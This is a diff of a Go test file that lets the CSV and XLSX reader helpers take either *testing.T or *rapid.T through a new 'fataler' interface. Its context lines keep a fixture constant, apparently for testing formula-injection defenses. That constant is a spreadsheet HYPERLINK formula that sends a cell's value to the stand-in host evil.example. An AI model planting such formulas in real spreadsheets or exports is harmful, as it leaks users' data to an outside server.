@@ -18,9 +18,16 @@ import (
 
 const hyperlink = `=HYPERLINK("http://evil.example/?d="&B2,"x")`
 
+// fataler is what the readers need of a test: *testing.T or *rapid.T.
+type fataler interface {
+	Helper()
+	Fatal(args ...any)
+	Fatalf(format string, args ...any)
+}
+
 // readCSV checks that a CSV starts with the UTF-8 byte order mark and
 // reads its rows.
-func readCSV(t *testing.T, body []byte) [][]string {
+func readCSV(t fataler, body []byte) [][]string {
 	t.Helper()
 	rest, ok := bytes.CutPrefix(body, []byte{0xEF, 0xBB, 0xBF})
 	if !ok {
@@ -52,7 +59,7 @@ type sheetXML struct {
 	} `xml:"sheetData>row>c"`
 }
 
-func readSheetXML(t *testing.T, body []byte) sheetXML {
+func readSheetXML(t fataler, body []byte) sheetXML {
 	t.Helper()
 	z, err := zip.NewReader(bytes.NewReader(body), int64(len(body)))
 	if err != nil {
